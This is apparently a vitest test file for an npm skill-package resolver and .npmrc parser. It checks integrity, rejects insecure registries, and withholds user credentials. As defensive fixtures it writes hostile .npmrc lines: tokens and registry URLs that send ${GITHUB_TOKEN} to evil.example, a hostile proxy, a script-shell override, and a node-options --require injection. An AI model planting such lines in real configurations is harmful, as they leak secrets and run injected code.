import { createHash } from 'node:crypto'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { readSettings } from '../../src/platform/env.ts'
import { npmSource } from '../../src/sources/npm.ts'
import { npmConfig, npmRegistry } from '../../src/sources/npm-config.ts'
import { readSkill } from '../../src/sources/read-skill.ts'
import type { NpmSpec, SourceIo, SourcePolicy } from '../../src/sources/source.ts'
import { answer, startServer, type TestServer } from '../support/http-server.ts'
import { file, tgz } from '../support/tar-builder.ts'

const SKILL = '---\nname: pdf\ndescription: Reads PDF files.\n---\n\n# Pdf\n'

let server: TestServer
let root: string

beforeEach(async () => {
  server = await startServer()
  root = mkdtempSync(join(tmpdir(), 'skillward-test-'))
})
afterEach(async () => {
  await server.close()
  rmSync(root, { recursive: true, force: true })
})

function io(offline = false, policy: SourcePolicy = { registries: {} }): SourceIo {
  const env = { HOME: root, NPM_CONFIG_REGISTRY: server.url('/') }
  return {
    settings: readSettings(env, root),
    signal: new AbortController().signal,
    offline,
    root,
    report: () => {},
    policy: () => policy,
  }
}

const spec = (range?: string): NpmSpec => ({
  kind: 'npm',
  name: 'skill-pdf',
  ...(range !== undefined && { range }),
})

function tarballOf(version: string): Buffer {
  const scripts = { postinstall: 'touch /tmp/never' }
  return tgz(
    file('package/package.json', JSON.stringify({ name: 'skill-pdf', version, scripts })),
    file('package/skills/pdf/SKILL.md', `${SKILL}${version}\n`),
  )
}

/** Versions with the time of their publication. */
function publish(
  versions: Readonly<Record<string, string>>,
  change: (dist: object) => object = (dist) => dist,
): void {
  const entries = Object.keys(versions).map((version) => {
    const bytes = tarballOf(version)
    const path = `/skill-pdf/-/skill-pdf-${version}.tgz`
    server.route(path, bytes)
    const integrity = `sha512-${createHash('sha512').update(bytes).digest('base64')}`
    return [
      version,
      { name: 'skill-pdf', version, dist: change({ tarball: server.url(path), integrity }) },
    ] as const
  })
  const packument = {
    name: 'skill-pdf',
    'dist-tags': { latest: Object.keys(versions).at(-1) },
    versions: Object.fromEntries(entries),
    time: versions,
  }
  server.route('/skill-pdf', answer(200, { 'content-type': 'application/json' }, JSON.stringify(packument)))
}

describe('npmSource', () => {
  test('finds skills inside a package of the registry of the settings', async () => {
    publish({ '1.0.0': '2026-01-01T00:00:00Z', '2.0.0': '2026-02-01T00:00:00Z' })
    const resolution = await npmSource.resolve(spec('^1'), io())
    expect(resolution).toMatchObject({ kind: 'npm', name: 'skill-pdf', version: '1.0.0' })
    expect(resolution.integrity).toMatch(/^sha512-/)
    const tree = await npmSource.open(resolution, io())
    const { files } = await readSkill(tree, { ...resolution, subdir: 'skills/pdf' })
    expect(files.map(({ path, bytes }) => [path, Buffer.from(bytes).toString()])).toEqual([
      ['SKILL.md', `${SKILL}1.0.0\n`],
    ])
  })

  test('opens a tarball again without a network', async () => {
    publish({ '1.0.0': '2026-01-01T00:00:00Z' })
    const resolution = await npmSource.resolve(spec(), io())
    await expect(npmSource.open(resolution, io(true))).toThrowCode('offline')
    await npmSource.open(resolution, io())
    const asked = server.log.length
    await npmSource.open(resolution, io(true))
    expect(server.log).toHaveLength(asked)
  })

  test('refuses a tarball that is not the locked one', async () => {
    publish({ '1.0.0': '2026-01-01T00:00:00Z' })
    const resolution = await npmSource.resolve(spec(), io())
    server.route('/skill-pdf/-/skill-pdf-1.0.0.tgz', tarballOf('6.6.6'))
    await expect(npmSource.open(resolution, io())).toThrowCode('integrity_mismatch')
  })

  test('refuses a version without a strong digest', async () => {
    publish({ '1.0.0': '2026-01-01T00:00:00Z' }, ({ tarball }: { tarball?: string }) => ({
      tarball,
      shasum: '2aae6c35c94fcfb415dbe95f408b9ce91ee846ed',
    }))
    await expect(npmSource.resolve(spec(), io())).toThrowCode('artifact_invalid')
  })

  test('refuses a tarball that would come without encryption', async () => {
    publish({ '1.0.0': '2026-01-01T00:00:00Z' }, (dist) => ({ ...dist, tarball: 'http://cdn.example/x.tgz' }))
    await expect(npmSource.resolve(spec(), io())).toThrowCode('source_insecure')
  })

  test('holds back young versions, but not the locked one', async () => {
    publish({ '1.0.0': '2026-01-01T00:00:00Z', '1.1.0': '2026-03-01T00:00:00Z' })
    const publishedBefore = Date.parse('2026-02-01T00:00:00Z')
    const aged = io(false, { registries: {}, publishedBefore })
    expect(await npmSource.resolve(spec('^1'), aged)).toMatchObject({ version: '1.0.0' })
    await expect(npmSource.resolve(spec('1.1.0'), aged)).toThrowCode('version_too_new')
    const locked = await npmSource.resolve(spec('^1'), io())
    expect(await npmSource.newest(spec('^1'), locked, aged)).toMatchObject({ version: '1.1.0' })
  })

  test('says what is missing', async () => {
    publish({ '1.0.0': '2026-01-01T00:00:00Z' })
    await expect(npmSource.resolve({ kind: 'npm', name: 'nothing' }, io())).toThrowCode('source_not_found')
    await expect(npmSource.resolve(spec('^3'), io())).toThrowCode('version_not_found')
  })
})

describe('npmConfig', () => {
  let home: string
  let project: string
  beforeEach(() => {
    ;[home, project] = [join(root, 'home'), join(root, 'project')]
    for (const folder of [home, project]) mkdirSync(folder)
  })
  const write = (folder: string, ...lines: readonly string[]): string => {
    const file = join(folder, '.npmrc')
    writeFileSync(file, lines.join('\n'))
    return file
  }
  const read = (env: Record<string, string> = {}) =>
    npmConfig({ home, env: { NPM_CONFIG_GLOBALCONFIG: join(root, 'none'), ...env } }, project)

  test("takes registries and credentials from the user's npmrc, and nothing that runs", () => {
    write(
      home,
      '# comment',
      'registry=https://npm.example/',
      '@acme:registry = "https://acme.example/npm"',
      '//acme.example/npm/:_authToken=${ACME_TOKEN}',
      '//npm.example/:_authToken=${MISSING}',
      'script-shell=/bin/evil',
      'node-options=--require=/tmp/x.js',
      'strict-ssl=false',
    )
    expect(read({ ACME_TOKEN: 't' }).options).toEqual({
      registry: 'https://npm.example/',
      '@acme:registry': 'https://acme.example/npm',
      '//acme.example/npm/:_authToken': 't',
      '//npm.example/:_authToken': '${MISSING}',
    })
    expect(npmConfig({ home: undefined, env: {} }, undefined).options).toEqual({})
  })

  test('the project counts more than the user, the user more than the machine, the environment most', () => {
    const global = join(root, 'global')
    writeFileSync(
      global,
      'registry=https://g.example/\n@g:registry=https://g.example/\n@u:registry=https://g.example/',
    )
    write(
      home,
      'registry=https://u.example/',
      '@u:registry=https://u.example/',
      '@p:registry=https://u.example/',
    )
    const file = write(
      project,
      'registry=https://p.example/',
      '@p:registry=https://p.example/',
      '@e:registry=https://p.example/',
    )
    const config = read({ npm_config_globalconfig: global, 'npm_config_@e:registry': 'https://e.example/' })
    const at = (name: string) => npmRegistry(name, config)
    expect(at('pkg')).toEqual({ url: 'https://p.example/', from: file })
    expect(at('@g/pkg')).toEqual({ url: 'https://g.example/', from: global })
    expect(at('@u/pkg')).toEqual({ url: 'https://u.example/', from: join(home, '.npmrc') })
    expect(at('@p/pkg')).toEqual({ url: 'https://p.example/', from: file })
    expect(at('@e/pkg')).toEqual({ url: 'https://e.example/', from: 'npm_config_@e:registry' })
    const env = read({ NPM_CONFIG_REGISTRY: 'https://env.example/' })
    expect(npmRegistry('pkg', env).url).toBe('https://env.example/')
    expect(npmRegistry('pkg', npmConfig({ home: undefined, env: {} }, undefined)).from).toBeUndefined()
  })

  test("no variable, proxy or authority of the user's comes to where a project's npmrc points", () => {
    write(
      project,
      '//evil.example/:_authToken=${GITHUB_TOKEN}',
      '//evil.example/:username=${USER?}',
      '//own.example/:_authToken=literal',
      'cafile=/project/ca.pem',
      'ca="-----BEGIN CERTIFICATE-----\\nx\\n-----END CERTIFICATE-----"',
      'https-proxy=http://evil.example:3128',
    )
    const config = read({ GITHUB_TOKEN: 'secret', USER: 'me' })
    expect(config.options).toEqual({ '//own.example/:_authToken': 'literal' })
    expect(config.ca).toBeUndefined()
    expect(config.withheld).toEqual(['//evil.example/:_authToken', '//evil.example/:username'])
  })

  test.each([
    ['registry=https://evil.example/${GITHUB_TOKEN}/', 'is made of a variable'],
    ['@acme:registry=https://${GITHUB_TOKEN}.evil.example/', 'is made of a variable'],
  ])("refuses the project's line %s", async (line) => {
    write(project, line)
    await expect(() => read({ GITHUB_TOKEN: 'secret' })).toThrowCode('npm_registry_refused')
  })

  test.each(['http://npm.example/', 'file:///etc/', 'https://me:pw@npm.example/', 'nonsense'])(
    'refuses to ask %s, and nothing else instead of it',
    async (url) => {
      write(project, `registry=${url}`)
      await expect(() => npmRegistry('pkg', read())).toThrowCode('npm_registry_refused')
    },
  )

  test('the authorities of cafile and ca take the place of the known ones', () => {
    const pem = (text: string) => `-----BEGIN CERTIFICATE-----\n${text}\n-----END CERTIFICATE-----`
    writeFileSync(join(home, 'ca.pem'), `${pem('aa')}\n${pem('bb')}\n`)
    write(home, `ca[]="${pem('cc').replaceAll('\n', '\\n')}"`)
    expect(read().ca).toEqual([pem('cc')])
    write(home, 'cafile=~/ca.pem')
    expect(read().ca).toEqual([pem('aa'), pem('bb')])
    writeFileSync(join(home, 'extra.pem'), pem('ee'))
    const extra = { NODE_EXTRA_CA_CERTS: join(home, 'extra.pem') }
    expect(read(extra).ca).toEqual([pem('aa'), pem('bb'), pem('ee')])
    expect(read({ ...extra, npm_config_cafile: join(home, 'missing') }).ca).toBeUndefined()
  })
})

describe("a project's npmrc", () => {
  const project = (...lines: readonly string[]): SourceIo => {
    const folder = join(root, 'project')
    mkdirSync(folder)
    writeFileSync(join(folder, '.npmrc'), lines.join('\n'))
    const settings = readSettings({ HOME: root, NPM_CONFIG_GLOBALCONFIG: join(root, 'none') }, folder)
    return { ...io(), settings, root: folder }
  }

  test('names the registry that is asked, and no other is', async () => {
    publish({ '1.0.0': '2026-01-01T00:00:00Z' })
    const lines: string[] = []
    const own = { ...project(`registry=${server.url('/')}`), report: (line: string) => lines.push(line) }
    expect(await npmSource.resolve(spec(), own)).toMatchObject({
      url: server.url('/skill-pdf/-/skill-pdf-1.0.0.tgz'),
    })
    expect(lines.join()).toContain(`${server.url('/')} (named by ${join(own.root, '.npmrc')})`)
    const missing = npmSource.resolve({ kind: 'npm', name: 'nothing' }, own)
    await expect(missing).rejects.toThrow(server.url('/'))
  })

  test("gets the user's token for that host alone", async () => {
    publish({ '1.0.0': '2026-01-01T00:00:00Z' })
    const { host } = new URL(server.url('/'))
    writeFileSync(join(root, '.npmrc'), `//${host}/:_authToken=mine\n//other.example/:_authToken=theirs`)
    await npmSource.resolve(spec(), project(`registry=${server.url('/')}`))
    expect(server.log.at(-1)?.headers.authorization).toBe('Bearer mine')
    writeFileSync(join(root, '.npmrc'), `//other.example/:_authToken=theirs`)
    await npmSource.resolve(spec(), {
      ...io(),
      settings: readSettings({ HOME: root }, root),
      root: join(root, 'project'),
    })
    expect(server.log.at(-1)?.headers.authorization).toBeUndefined()
  })

  test('a credential of a variable is not sent, and the refusal says where it belongs', async () => {
    const { host } = new URL(server.url('/'))
    server.route('/skill-pdf', answer(401, {}, '{}'))
    const own = project(`registry=${server.url('/')}`, `//${host}/:_authToken=\${SECRET}`)
    const settings = readSettings({ ...own.settings.env, SECRET: 's3cret' }, own.root)
    const error = await npmSource.resolve(spec(), { ...own, settings }).catch((caught: unknown) => caught)
    expect(error).toMatchObject({ code: 'source_unauthorized' })
    expect((error as { hint: string }).hint).toContain('~/.npmrc')
    expect(server.log.map(({ headers }) => headers.authorization)).toEqual([undefined])
  })
})
